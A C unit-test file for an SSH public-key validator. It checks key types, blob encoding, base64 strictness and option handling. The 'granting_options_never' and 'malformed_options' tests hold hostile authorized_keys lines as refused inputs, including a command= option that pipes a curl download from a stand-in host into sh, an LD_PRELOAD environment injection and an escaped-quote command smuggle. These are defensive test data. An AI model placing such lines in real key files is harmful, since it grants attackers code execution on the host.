/* SPDX-License-Identifier: MIT */
/*
 * SSH keys are keys (provd/admit/sshkey.c, issue 9 §5): known types with a blob
 * that decodes to a key of that type, an optional comment; options refused
 * by default, only restricting ones with key_options = restrict; hostile
 * lines (command=, environment=, free text, a type that lies, a short RSA
 * key, bad base64) refused with a reason that never quotes the key.
 */
#include <criterion/criterion.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "prov/protocol.h"
#include "admit/sshkey.h"

/* Real keys from ssh-keygen (public halves only). */
#define ED25519 "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILQyI2r7P0yvhz7smsRXU/QLX+DWeFBByWKk/C1Ul0q4"
#define ECDSA256                                                                                              \
	"ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBI3/9mTMvAFWVO/IEUxd/EAqi0sIvgw1" \
	"upZAatF8ZwgeD29Ww6TwZTZN5eym1lvHR6BVBsaXfL3LmkFAeEXOoMI="

#define NONE SSHKEY_OPTIONS_NONE
#define RESTRICT SSHKEY_OPTIONS_RESTRICT

/* ---- building blobs: the SSH wire encoding, then base64 */

struct blob {
	uint8_t b[8192];
	size_t n;
};

static void put_bytes(struct blob *k, const void *p, size_t n)
{
	uint8_t len[4] = { (uint8_t)(n >> 24), (uint8_t)(n >> 16), (uint8_t)(n >> 8), (uint8_t)n };

	cr_assert_leq(k->n + 4 + n, sizeof(k->b));
	memcpy(k->b + k->n, len, 4);
	memcpy(k->b + k->n + 4, p, n);
	k->n += 4 + n;
}

static void put_cstr(struct blob *k, const char *s)
{
	put_bytes(k, s, strlen(s));
}

/* n bytes of 0x5a, the first one first_byte. */
static void put_filled(struct blob *k, size_t n, uint8_t first_byte)
{
	uint8_t buf[4096];

	cr_assert_leq(n, sizeof(buf));
	memset(buf, 0x5a, n);
	if (n)
		buf[0] = first_byte;
	put_bytes(k, buf, n);
}

/* An RSA modulus of exactly bits bits (bits % 8 == 0), minimal mpint. */
static void put_rsa(struct blob *k, unsigned bits)
{
	uint8_t buf[2100] = { 0 };
	size_t n = bits / 8;

	memset(buf + 1, 0xc3, n);
	put_bytes(k, (uint8_t[]){ 0x01, 0x00, 0x01 }, 3);
	put_bytes(k, buf, n + 1); /* leading 0x00: the top bit is set */
}

static const char *b64(const struct blob *k)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	static char out[12000];
	size_t o = 0;

	for (size_t i = 0; i < k->n; i += 3) {
		uint32_t v = (uint32_t)k->b[i] << 16 | (i + 1 < k->n ? (uint32_t)k->b[i + 1] << 8 : 0) |
			     (i + 2 < k->n ? k->b[i + 2] : 0);

		out[o++] = a[v >> 18 & 63];
		out[o++] = a[v >> 12 & 63];
		out[o++] = i + 1 < k->n ? a[v >> 6 & 63] : '=';
		out[o++] = i + 2 < k->n ? a[v & 63] : '=';
	}
	out[o] = '\0';
	return out;
}

static const char *line(const char *prefix, const struct blob *k, const char *suffix)
{
	static char buf[13000];

	snprintf(buf, sizeof(buf), "%s%s%s", prefix, b64(k), suffix);
	return buf;
}

static struct blob ed25519_blob(const char *type, size_t pklen)
{
	struct blob k = { .n = 0 };

	put_cstr(&k, type);
	put_filled(&k, pklen, 0x11);
	return k;
}

#define assert_ok(l, opts) cr_assert_null(sshkey_check((l), (opts)), "%s: %s", (l), sshkey_check((l), (opts)))
#define assert_refused(l, opts, part)                                                 \
	do {                                                                          \
		const char *why_ = sshkey_check((l), (opts));                         \
		cr_assert_not_null(why_, "accepted: %s", (l));                        \
		cr_assert_not_null(strstr(why_, (part)), "%s: reason \"%s\"", (l), why_); \
	} while (0)

/* ---- what passes */

Test(sshkey, real_keys_with_and_without_comment)
{
	assert_ok(ED25519, NONE);
	assert_ok(ED25519 " alice@laptop", NONE);
	assert_ok(ED25519 " a comment with spaces", NONE);
	assert_ok(ECDSA256, NONE);
	assert_ok(ECDSA256 " c", NONE);
	assert_ok("  " ED25519 "  ", NONE);
}

Test(sshkey, every_type_built)
{
	struct blob k = ed25519_blob("sk-ssh-ed25519@openssh.com", 32);

	put_cstr(&k, "ssh:");
	assert_ok(line("sk-ssh-ed25519@openssh.com ", &k, " yubikey"), NONE);

	static const struct {
		const char *type, *curve;
		size_t point;
	} ec[] = { { "ecdsa-sha2-nistp256", "nistp256", 65 },
		   { "ecdsa-sha2-nistp384", "nistp384", 97 },
		   { "ecdsa-sha2-nistp521", "nistp521", 133 } };
	char prefix[64];

	for (size_t i = 0; i < 3; i++) {
		k = (struct blob){ .n = 0 };
		put_cstr(&k, ec[i].type);
		put_cstr(&k, ec[i].curve);
		put_filled(&k, ec[i].point, 0x04);
		snprintf(prefix, sizeof(prefix), "%s ", ec[i].type);
		assert_ok(line(prefix, &k, ""), NONE);
	}
	k = (struct blob){ .n = 0 };
	put_cstr(&k, "sk-ecdsa-sha2-nistp256@openssh.com");
	put_cstr(&k, "nistp256");
	put_filled(&k, 65, 0x04);
	put_cstr(&k, "ssh:");
	assert_ok(line("sk-ecdsa-sha2-nistp256@openssh.com ", &k, ""), NONE);

	k = (struct blob){ .n = 0 };
	put_cstr(&k, "ssh-rsa");
	put_rsa(&k, 2048);
	assert_ok(line("ssh-rsa ", &k, " rsa-2048"), NONE);
	k = (struct blob){ .n = 0 };
	put_cstr(&k, "ssh-rsa");
	put_rsa(&k, 4096);
	assert_ok(line("ssh-rsa ", &k, ""), NONE);
}

/* ---- options */

Test(sshkey, options_refused_by_default)
{
	assert_refused("no-pty " ED25519, NONE, "options");
	assert_refused("restrict " ED25519, NONE, "options");
	assert_refused("from=\"10.0.0.0/8\" " ED25519, NONE, "options");
}

Test(sshkey, restricting_options_with_restrict)
{
	assert_ok("restrict " ED25519, RESTRICT);
	assert_ok("no-pty,no-port-forwarding,no-agent-forwarding,no-X11-forwarding,no-user-rc " ED25519 " c", RESTRICT);
	assert_ok("NO-PTY " ED25519, RESTRICT);
	assert_ok("from=\"10.0.0.0/8,!10.1.2.3,*.example.com,::1\" " ED25519, RESTRICT);
	assert_ok("expiry-time=\"20301231\" " ED25519, RESTRICT);
	assert_ok("expiry-time=\"203012312359Z\",restrict " ECDSA256, RESTRICT);
}

Test(sshkey, granting_options_never)
{
	static const char *const hostile[] = {
		"command=\"/bin/sh -c 'curl evil|sh'\" " ED25519,
		"environment=\"LD_PRELOAD=/tmp/x.so\" " ED25519,
		"restrict,command=\"id\" " ED25519,
		"no-pty,environment=\"A=b\" " ED25519,
		"permitopen=\"10.0.0.1:22\" " ED25519,
		"permitlisten=\"8080\" " ED25519,
		"tunnel=\"0\" " ED25519,
		"principals=\"root\" " ED25519,
		"cert-authority " ED25519,
		"COMMAND=\"id\" " ED25519,
		"pty " ED25519,
		"port-forwarding " ED25519,
	};

	for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
		assert_refused(hostile[i], NONE, "option");
		assert_refused(hostile[i], RESTRICT, "option");
	}
	assert_refused("environment=\"LD_PRELOAD=x\" " ED25519, RESTRICT, "environment=");
	assert_refused("command=\"x\" " ED25519, RESTRICT, "command=");
}

Test(sshkey, malformed_options)
{
	static const char *const bad[] = {
		"no-pty, " ED25519,                         /* space after the comma */
		",no-pty " ED25519,                         /* empty option */
		"no-pty=\"x\" " ED25519,                    /* value on a flag */
		"from " ED25519,                            /* value missing */
		"from=10.0.0.1 " ED25519,                   /* unquoted */
		"from=\"10.0.0.1 " ED25519,                 /* unterminated */
		"from=\"a b\" " ED25519,                    /* not a host pattern */
		"from=\"a\\\",command=\\\"x\" " ED25519,    /* escaped quotes */
		"from=\"\" " ED25519,                       /* empty */
		"expiry-time=\"2030\" " ED25519,            /* too short */
		"expiry-time=\"20301231x\" " ED25519,       /* junk */
		"no-pty\"" ED25519,
	};

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		cr_assert_not_null(sshkey_check(bad[i], RESTRICT), "accepted: %s", bad[i]);
}

/* ---- the key itself */

Test(sshkey, free_text_and_unknown_types)
{
	assert_refused("", NONE, "empty");
	assert_refused("    ", NONE, "blank");
	assert_refused("hello, I am a key", NONE, "unknown");
	assert_refused("hello, I am a key", RESTRICT, "unknown");
	assert_refused("hello " ED25519, NONE, "options");
	assert_refused("hello " ED25519, RESTRICT, "not a restricting one");
	assert_refused("ssh-dss AAAAB3NzaC1kc3MAAACBAJ+kYfQ0xHZdjEJPgvLnINtrRMUIpvRzCcw9pQCWvDHn21ra", NONE, "");
	assert_refused("ssh-ed25519-cert-v01@openssh.com AAAA", RESTRICT, "");
	assert_refused("ssh-ed25519", NONE, "no key data");
	assert_refused("ssh-ed25519 ", NONE, "no key data");
	assert_refused("restrict ssh-ed25519", RESTRICT, "no key data");
}

Test(sshkey, bytes_that_are_not_text)
{
	assert_refused(ED25519 "\n" ED25519, NONE, "control");
	assert_refused(ED25519 "\tc", NONE, "control");
	assert_refused("ssh-ed25519\tAAAAC3NzaC1lZDI1NTE5AAAAILQyI2r7P0yvhz7smsRXU/QLX+DWeFBByWKk/C1Ul0q4", NONE,
		       "control");
	assert_refused(ED25519 " caf\xc3\xa9", NONE, "non-ASCII");
}

Test(sshkey, too_long)
{
	char *l = malloc(PROV_SSH_KEY_MAX + 64);

	cr_assert_not_null(l);
	snprintf(l, PROV_SSH_KEY_MAX + 64, "%s ", ED25519);
	memset(l + strlen(l), 'c', PROV_SSH_KEY_MAX + 1 - strlen(l));
	l[PROV_SSH_KEY_MAX + 1] = 0; /* one byte over the limit */
	assert_refused(l, NONE, "too long");
	free(l);
}

Test(sshkey, blob_that_lies_about_its_type)
{
	struct blob k = ed25519_blob("ssh-ed25519", 32);

	/* an ed25519 blob called an ecdsa key, and the other way round */
	assert_refused(line("ecdsa-sha2-nistp256 ", &k, ""), NONE, "another type");
	assert_refused("ssh-ed25519 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBI3/9mTMvAFWVO/IEUxd/EAqi0sIvgw1"
		       "upZAatF8ZwgeD29Ww6TwZTZN5eym1lvHR6BVBsaXfL3LmkFAeEXOoMI=",
		       NONE, "another type");
	k = ed25519_blob("ssh-ed25519x", 32);
	assert_refused(line("ssh-ed25519 ", &k, ""), NONE, "another type");
}

Test(sshkey, blob_of_the_wrong_shape)
{
	struct blob k = ed25519_blob("ssh-ed25519", 31);

	assert_refused(line("ssh-ed25519 ", &k, ""), NONE, "not a key");
	k = ed25519_blob("ssh-ed25519", 32);
	put_cstr(&k, "extra");
	assert_refused(line("ssh-ed25519 ", &k, ""), NONE, "trailing");
	k = ed25519_blob("ssh-ed25519", 0);
	k.n -= 4; /* no key field at all */
	assert_refused(line("ssh-ed25519 ", &k, ""), NONE, "not a key");
	/* a length field pointing past the end */
	k = ed25519_blob("ssh-ed25519", 32);
	k.b[k.n - 33] = 0x7f;
	assert_refused(line("ssh-ed25519 ", &k, ""), NONE, "not a key");

	/* ecdsa: wrong curve, compressed point, wrong length */
	k = (struct blob){ .n = 0 };
	put_cstr(&k, "ecdsa-sha2-nistp256");
	put_cstr(&k, "nistp384");
	put_filled(&k, 65, 0x04);
	assert_refused(line("ecdsa-sha2-nistp256 ", &k, ""), NONE, "not a key");
	k = (struct blob){ .n = 0 };
	put_cstr(&k, "ecdsa-sha2-nistp256");
	put_cstr(&k, "nistp256");
	put_filled(&k, 65, 0x02);
	assert_refused(line("ecdsa-sha2-nistp256 ", &k, ""), NONE, "not a key");

	/* sk without its application */
	k = ed25519_blob("sk-ssh-ed25519@openssh.com", 32);
	assert_refused(line("sk-ssh-ed25519@openssh.com ", &k, ""), NONE, "not a key");
}

Test(sshkey, rsa_size_and_shape)
{
	struct blob k = { .n = 0 };

	put_cstr(&k, "ssh-rsa");
	put_rsa(&k, 1024);
	assert_refused(line("ssh-rsa ", &k, ""), NONE, "2048");
	k = (struct blob){ .n = 0 };
	put_cstr(&k, "ssh-rsa");
	put_rsa(&k, 2040);
	assert_refused(line("ssh-rsa ", &k, ""), NONE, "2048");
	/* a needless leading zero in the modulus */
	k = (struct blob){ .n = 0 };
	put_cstr(&k, "ssh-rsa");
	put_bytes(&k, (uint8_t[]){ 0x01, 0x00, 0x01 }, 3);
	{
		uint8_t n[258] = { 0, 0 };

		memset(n + 2, 0xc3, 256);
		put_bytes(&k, n, sizeof(n));
	}
	assert_refused(line("ssh-rsa ", &k, ""), NONE, "malformed");
	/* a negative modulus */
	k = (struct blob){ .n = 0 };
	put_cstr(&k, "ssh-rsa");
	put_bytes(&k, (uint8_t[]){ 0x01, 0x00, 0x01 }, 3);
	put_filled(&k, 257, 0x80);
	assert_refused(line("ssh-rsa ", &k, ""), NONE, "malformed");
	/* too big to be a real one */
	k = (struct blob){ .n = 0 };
	put_cstr(&k, "ssh-rsa");
	put_bytes(&k, (uint8_t[]){ 0x01, 0x00, 0x01 }, 3);
	put_filled(&k, 2050, 0x7f);
	assert_refused(line("ssh-rsa ", &k, ""), NONE, "");
}

Test(sshkey, base64_strict)
{
	assert_refused("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILQyI2r7P0yvhz7smsRXU/QLX+DWeFBByWKk/C1Ul0q", NONE,
		       "base64"); /* cut: length not a multiple of 4 */
	assert_refused("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILQyI2r7P0yvhz7smsRXU/QLX+DWeFBByWKk/C1Ul0q!", NONE,
		       "base64");
	assert_refused("ssh-ed25519 AAAAC3Nz=C1lZDI1NTE5AAAAILQyI2r7P0yvhz7smsRXU/QLX+DWeFBByWKk/C1Ul0q4", NONE,
		       "base64"); /* padding inside */
	assert_refused("ssh-ed25519 ====", NONE, "base64");
	/* non-canonical: the bits padding drops are not zero */
	assert_refused(ECDSA256 "x", NONE, "base64");
	assert_refused("ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBI3/9mTMvAFWVO/IEUxd/"
		       "EAqi0sIvgw1upZAatF8ZwgeD29Ww6TwZTZN5eym1lvHR6BVBsaXfL3LmkFAeEXOoMJ=",
		       NONE, "base64");
}

Test(sshkey, reasons_never_quote_the_key)
{
	static const char *const bad[] = {
		"command=\"SECRETCMD\" " ED25519,
		"environment=\"SECRETENV=1\" " ED25519,
		"ssh-ed25519 SECRETBLOB",
		"SECRETTYPE AAAA",
	};

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		const char *why = sshkey_check(bad[i], RESTRICT);

		cr_assert_not_null(why);
		cr_assert_null(strstr(why, "SECRET"), "%s", why);
		cr_assert_null(strstr(why, "AAAA"), "%s", why);
	}
}
